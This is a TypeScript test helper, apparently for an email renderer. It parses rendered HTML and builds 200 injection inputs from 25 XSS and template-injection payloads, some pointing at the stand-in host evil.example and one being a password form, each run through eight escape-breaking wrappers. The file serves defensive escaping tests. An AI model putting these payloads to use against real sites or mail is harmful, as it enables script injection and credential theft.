import type * as Render from '../src/app/render.tsx'
import type { Letter } from '../src/contract/letter.ts'

const render = (await import(
  new URL('../dist/server/render.js', import.meta.url).href
)) as typeof Render

/** The mails as the server writes them. */
export const { letters } = render

/** The tags of a mail with the names of their attributes: what text can never add to. */
export const skeletonOf = ({ html }: Letter): string[] =>
  [...html.matchAll(/<[^>]*>/g)].map(([tag]) => tag.replaceAll(/="[^"]*"/g, ''))

/** Every address that a mail links to. */
export const linksIn = ({ html }: Letter): string[] =>
  [...html.matchAll(/\b(?:href|src|action|background)="([^"]*)"/g)].map(([, url = '']) => url)

/** The text that somebody sees who reads the HTML. */
export const seenIn = ({ html }: Letter): string =>
  html
    .replaceAll(/<style>.*?<\/style>|<title>.*?<\/title>/gs, '')
    .replaceAll(/<br\/?>/g, '\n')
    .replaceAll(/<[^>]*>/g, ' ')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&')

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src=//evil.example></iframe>',
  '<a href="javascript:alert(1)">press</a>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import url(//evil.example)</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input name=password>',
  '<body onload=alert(1)>',
  '<table background=//evil.example>',
  '<math><mi xlink:href="data:x,alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<object data=//evil.example>',
  '<video><source onerror=alert(1)>',
  '<button formaction=//evil.example>',
  '<!--[if mso]><v:rect href="//evil.example"><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)} <%= 1 %>',
  'expression(alert(1)) url(//evil.example)',
]

const wrappers: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</td></table>${text}`,
  (text) => `</title></style>${text}`,
  (text) => `-->${text}<!--`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '<\0\u000b').replaceAll('>', '\u202e>'),
]

/** Two hundred texts that would be more than text where somebody forgot to escape them. */
export const scripts = wrappers.flatMap((wrap) => attacks.map(wrap))
